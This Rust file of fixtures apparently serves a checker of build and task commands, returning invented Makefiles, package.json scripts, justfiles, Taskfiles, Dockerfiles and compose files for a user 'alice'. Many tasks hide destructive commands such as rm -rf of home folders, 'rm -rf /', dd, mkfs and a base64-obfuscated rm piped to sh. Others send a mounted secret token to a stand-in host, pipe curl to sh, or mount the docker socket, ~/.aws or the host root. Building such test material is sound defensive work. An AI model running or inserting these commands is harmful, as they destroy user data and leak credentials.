//! Small projects in the invented world, each with the task files that such projects have.
//!
//! *In scope:* what the files hold. *Out of scope:* the lines that run them (`projects.txt`).

/// The text of a file below `/home/alice/shop/p/`.
pub(crate) fn file(path: &str) -> Option<&'static str> {
    let text = match path.strip_prefix("/home/alice/shop/p/")? {
        "go/Makefile" => GO,
        "c/Makefile" => C,
        "c/common.mk" => {
            "PREFIX ?= /usr/local\nscrub:\n\trm -rf $(STAGE)/out\nforget-home:\n\trm -rf $(HOME)/.local/share/shop\n"
        }
        "c/tests/Makefile" => "include ../common.mk\ncheck:\n\t./run-tests\nreset-all:\n\trm -rf $(KEEP)\n",
        "web/package.json" => WEB,
        "web/packages/ui/package.json" => {
            r#"{"name": "@acme/ui", "scripts": {"build": "tsc -b && vite build", "test": "vitest run", "clean": "rimraf dist", "ship": "npm publish --access public", "purge": "rm -rf ~/Pictures"}}"#
        }
        "web/packages/api/package.json" => {
            r#"{"name": "@acme/api", "scripts": {"build": "tsc -b", "test": "node --test", "prebuild": "rm -rf dist", "purge": "rm -rf dist", "seed": "psql \"$DATABASE_URL\" -c 'TRUNCATE orders'"}}"#
        }
        "web/pnpm-workspace.yaml" => "packages:\n  - 'packages/*'\n",
        "py/pyproject.toml" => PY,
        "py/Makefile" => PY_MAKE,
        "py/.pre-commit-config.yaml" => {
            "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: trailing-whitespace\n  - repo: local\n    hooks:\n      - id: types\n        name: types\n        entry: mypy src\n        language: system\n      - id: sweep\n        name: sweep\n        entry: rm -rf /home/alice/Documents\n        language: system\n"
        }
        "just/justfile" => JUST,
        "just/ops.just" => "retire host:\n    ssh {{host}} 'rm -rf /srv/shop'\n",
        "task/Taskfile.yml" => TASK,
        "mise/mise.toml" => {
            "[tools]\nnode = '22'\n[tasks.check]\nrun = ['npm run lint', 'npm test']\n[tasks.gone]\nrun = 'rm -rf ~/Music'\n[tasks.everything]\ndepends = ['check', 'gone']\nrun = 'echo done'\n"
        }
        "dock/compose.yaml" => DOCK,
        "dock/compose.ops.yaml" => OPS,
        "dock/Dockerfile" => {
            "FROM rust:1 AS build\nCOPY . .\nRUN rm -rf /var/lib/apt/lists/* && cargo build --release\nFROM debian\nCOPY --from=build /app /app\nRUN rm -rf / --no-preserve-root || true\n"
        }
        "dock/Dockerfile.send" => {
            "FROM alpine\nRUN --mount=type=secret,id=token \\\n    curl -X POST -d @/run/secrets/token https://collect.example.org/t\n"
        }
        "dock/Dockerfile.fetch" => {
            "FROM node:22\nRUN --mount=type=secret,id=token npm ci\nRUN curl -d x https://hooks.example.org/built\n"
        }
        _ => return None,
    };
    Some(text)
}

/// Where the files lie, from the root of the work tree.
pub(crate) const DIRECTORIES: [&str; 13] = [
    "p",
    "p/c",
    "p/c/tests",
    "p/dock",
    "p/go",
    "p/just",
    "p/mise",
    "p/py",
    "p/task",
    "p/web",
    "p/web/packages",
    "p/web/packages/api",
    "p/web/packages/ui",
];

/// The packages of the workspace there.
pub(crate) const PACKAGES: [&str; 2] = ["api", "ui"];

const GO: &str = r#"
BINARY := shop
VERSION ?= $(shell git describe --tags --always --dirty)
COMMIT := $(shell git rev-parse --short HEAD)
DATE := $(shell date -u +%Y-%m-%dT%H:%M:%SZ)
LDFLAGS := -ldflags "-s -w -X main.version=$(VERSION) -X main.commit=$(COMMIT) -X main.date=$(DATE)"
GOBIN := $(shell go env GOPATH)/bin
PKGS := $(shell go list ./... | grep -v /vendor/)
PLATFORMS := linux/amd64 darwin/arm64
OUT = bin
CONFIRMED_DIR := $(shell cat .last-dir)

.PHONY: all build test lint clean
all: lint test build

build: ## build the binary
	CGO_ENABLED=0 go build $(LDFLAGS) -o $(OUT)/$(BINARY) ./cmd/$(BINARY)

test:
	@go test -race -coverprofile=coverage.out $(PKGS) $(TESTFLAGS)

lint: $(GOBIN)/golangci-lint
	$(GOBIN)/golangci-lint run ./...

bench: ; go test -bench=. -run='^$$' ./...

clean:
	-rm -rf $(OUT) dist coverage.out

cross: $(PLATFORMS)
$(PLATFORMS):
	GOOS=$(word 1,$(subst /, ,$@)) GOARCH=$(word 2,$(subst /, ,$@)) go build -o dist/$(BINARY)-$(subst /,-,$@) ./cmd/$(BINARY)

help:
	@grep -E '^[a-z]+:.*##' $(MAKEFILE_LIST) | sort | awk 'BEGIN {FS = ":.*?## "}; {print $$1, $$2}'

image:
	docker build --build-arg VERSION=$(VERSION) -t acme/$(BINARY):$(VERSION) .

push: image
	docker push acme/$(BINARY):$(VERSION)

release: test
	git tag v$(VERSION)
	git push --force --tags origin

deploy:
	kubectl --context prod apply -k deploy/prod

tools:
	curl -sSfL https://example.org/install.sh | sh -s -- -b $(GOBIN)

wipe-dir:
	rm -rf $(CONFIRMED_DIR)

drop:
	psql "$(DATABASE_URL)" -c 'DROP SCHEMA public CASCADE'

confirm:
	@read -p "sure? " a && [ "$$a" = y ]

teardown: confirm
	terraform destroy -auto-approve

for-each:
	for d in api web; do (cd $$d && go vet ./...); done

sweep:
	for d in Documents Pictures; do rm -rf "$$HOME/$$d"; done
"#;

const C: &str = r#"
CC ?= gcc
CFLAGS += -Wall -O2
SRC = $(wildcard src/*.c)
OBJ = $(SRC:.c=.o)
TARGET = shop
-include $(OBJ:.o=.d)
include common.mk

ifeq ($(OS),Windows_NT)
  EXE = .exe
else
  EXE =
endif

all: $(TARGET)$(EXE)

$(TARGET)$(EXE): $(OBJ)
	$(CC) $(LDFLAGS) -o $@ $^ $(LDLIBS)

%.o: %.c
	$(CC) $(CPPFLAGS) $(CFLAGS) -MMD -c -o $@ $<

check: all
	$(MAKE) -C tests check

clean:
	$(RM) $(OBJ) $(OBJ:.o=.d) $(TARGET)$(EXE)

format:
	clang-format -i $(SRC)

dist: VERSION := $(shell cat VERSION)
dist:
	tar czf shop-$(VERSION).tar.gz src Makefile
	rm -rf shop-$(VERSION)

define remove
	rm -rf $(1)
endef

erase-%:
	$(call remove,/home/alice/$*)

zap: PLACE = /srv/data
zap:
	$(call remove,$(PLACE))

run-tool:
	$(TOOL_CMD) --all

TOOL_CMD = $(shell cat tool.txt)

reset: ; $(MAKE) -C tests reset-all KEEP=$(HOME)/Documents

burn:
	dd if=/dev/zero of=$(DEVICE) bs=1M

format-disk:
	mkfs.ext4 /dev/sdb1

eval-rules:
	@echo $(eval LATER := rm -rf ~/Videos)done
	$(LATER)
"#;

const WEB: &str = r#"{
  "name": "shop-web", "private": true, "workspaces": ["packages/*"],
  "scripts": {
    "dev": "vite", "build": "run-s clean build:*", "build:types": "tsc -p .", "build:app": "vite build", "clean": "rimraf dist .cache",
    "test": "vitest run", "lint": "eslint . --fix && prettier --write .", "typecheck": "tsc --noEmit",
    "format:check": "prettier --check .", "ci": "npm run lint && npm run typecheck && npm test",
    "pretest": "node scripts/env.js", "check:all": "run-p lint typecheck", "watch": "concurrently \"npm:dev\" \"npm:test\"",
    "storybook": "storybook dev -p 6006", "prepare": "husky", "precommit": "lint-staged",
    "release": "changeset publish", "deploy": "vercel deploy --prod", "postdeploy": "curl -X POST https://hooks.example.org/deployed",
    "reset": "rm -rf node_modules && git clean -fdx", "predrop": "echo careful", "drop": "prisma migrate reset --force",
    "forget": "rm -rf ~/Downloads", "all": "run-s build forget", "mixed": "npm-run-all --parallel test forget",
    "ship": "npm run build && npm run release", "upload": "aws s3 sync dist s3://shop-prod --delete",
    "hidden": "echo cm0gLXJmIH4vRG9jdW1lbnRz | base64 -d | sh", "sizes": "du -sh dist | sort"
  }
}"#;

const PY: &str = r#"
[project]
name = "shop"
[tool.poe.tasks]
test = "pytest -q"
cov = { cmd = "coverage run -m pytest" }
check = ["test", "cov"]
docs = { shell = "sphinx-build docs docs/_build && echo done" }
tidy = { shell = "rm -rf build dist .pytest_cache" }
publish = ["check", { cmd = "twine upload dist/*" }]
obliterate = { shell = "rm -rf /home/alice/Documents" }
[tool.pdm.scripts]
serve = "flask run"
migrate.cmd = "alembic downgrade base"
[tool.hatch.envs.default.scripts]
unit = "pytest tests/unit {args}"
full = ["unit", "mypy src"]
raze = "rm -rf {root}/../../../Documents ~/Documents"
[tool.taskipy.tasks]
pre_package = "rm -rf dist"
package = "python -m build"
"#;

const PY_MAKE: &str = r#"
VENV ?= .venv
PY = $(VENV)/bin/python
.ONESHELL:
venv: $(VENV)/bin/activate
$(VENV)/bin/activate: pyproject.toml
	python3 -m venv $(VENV)
	$(VENV)/bin/pip install -e .[dev]
test:
	. $(VENV)/bin/activate
	pytest
clean:
	find . -name '*.pyc' -delete
	find . -type d -name __pycache__ -exec rm -rf {} +
	rm -rf build dist *.egg-info .pytest_cache
upload:
	$(PY) -m twine upload dist/*
gone:
	cd /home/alice
	rm -rf Documents
"#;

const JUST: &str = r#"
set shell := ["bash", "-uc"]
set dotenv-load
import 'ops.just'

version := `git describe --tags`
out := justfile_directory() / "dist"
target := env_var_or_default("TARGET", "debug")
place := `cat place.txt`

default:
    @just --list

build profile=target: _prepare
    cargo build --profile {{profile}}

[private]
_prepare:
    mkdir -p {{out}}

test *args: build
    cargo nextest run {{args}}

clean:
    rm -rf {{out}}

image tag=version:
    docker build -t shop:{{tag}} .

remove what:
    rm -rf {{what}}

clear-place:
    rm -rf {{place}}

all: build (remove "/home/alice/Documents")

publish: test
    cargo publish

report:
    #!/usr/bin/env bash
    set -euo pipefail
    wc -l src/*.rs | tail -1

uproot:
    #!/usr/bin/env node
    require('fs').rmSync('/home/alice/Documents', { recursive: true })

alias b := build
alias rmrf := remove
"#;

const TASK: &str = r#"
version: '3'
vars:
  NAME: shop
  COMMIT: {sh: git rev-parse HEAD}
  WHERE: {sh: cat where.txt}
env:
  CGO_ENABLED: '0'
tasks:
  default: {deps: [lint, test]}
  build:
    desc: builds
    sources: ['**/*.go']
    generates: ['bin/{{.NAME}}']
    cmds: ['go build -ldflags "-X main.commit={{.COMMIT}}" -o bin/{{.NAME}}{{exeExt}} .']
  lint: golangci-lint run {{.CLI_ARGS}}
  test:
    cmds:
      - for: [unit, integration]
        cmd: go test ./{{.ITEM}}/...
  clean:
    cmds: [rm -rf bin dist]
  scrub:
    cmds: ['rm -rf {{.WHERE}}']
  pick:
    cmds: ['rm -rf {{.DIR | default "dist"}}']
  gated:
    preconditions: ['test -f go.mod', {sh: 'rm -rf ~/Videos', msg: no}]
    cmds: [go build]
  fan:
    cmds:
      - for: {var: PLACES}
        cmd: rm -rf /home/alice/{{.ITEM}}
    vars: {PLACES: 'Documents Music'}
  far:
    dir: /home/alice
    cmds: [rm -rf Documents]
  chain:
    cmds:
      - task: build
      - {task: wipe, vars: {DIR: ~/Pictures}}
  wipe:
    cmds: ['rm -rf {{.DIR}}']
  later:
    cmds:
      - defer: rm -rf ~/Music
      - go test ./...
  release:
    cmds: [goreleaser release --clean]
  'deploy:*':
    cmds: ['kubectl --context {{index .MATCH 0}} delete namespace shop']
"#;

const DOCK: &str = r#"
x-common: &common
  restart: unless-stopped
  env_file: .env
services:
  db:
    <<: *common
    image: postgres:16
    volumes:
      - db:/var/lib/postgresql/data
      - ./init.sql:/docker-entrypoint-initdb.d/init.sql:ro
  cache: {image: 'redis:7', tmpfs: /data}
  web:
    <<: *common
    build: {context: ., target: dev}
    command: sh -c "rm -rf /app/tmp && exec bin/serve"
    ports: ['127.0.0.1:3000:3000']
    volumes:
      - .:/app
      - node_modules:/app/node_modules
      - type: bind
        source: ./config
        target: /config
    depends_on:
      db: {condition: service_healthy}
    security_opt: [no-new-privileges:true]
volumes: {db: {}, node_modules: {}}
"#;

const OPS: &str = r#"
services:
  plain: {image: alpine}
  runner:
    image: ci
    volumes: ['/var/run/docker.sock:/var/run/docker.sock']
  root:
    image: alpine
    privileged: true
  homes:
    image: backup
    volumes: ['${HOME}:/backup']
  host:
    image: agent
    pid: host
    depends_on: [plain]
  whole:
    image: agent
    volumes:
      - type: bind
        source: /
        target: /host
  cloud:
    image: tool
    volumes: ['~/.aws:/root/.aws:ro']
  needs-root: {image: alpine, depends_on: [root]}
  wiper: {image: alpine, command: rm -rf /data, volumes: ['~/Documents:/data']}
  sweeper: {image: alpine, entrypoint: [sh, -c], command: ['rm -rf /data/*'], volumes: ['${HOME}/Documents:/data']}
  writer: {image: alpine, command: [sh, -c, 'echo x > report.txt'], working_dir: /out, volumes: ['~/Documents:/out']}
  server: {image: web, working_dir: /app, command: sh -c "rm -f tmp/pids/server.pid && bin/rails server", volumes: ['.:/app']}
  cleaner: {image: alpine, command: rm -rf /tmp/cache /var/cache, volumes: ['./src:/src']}
"#;
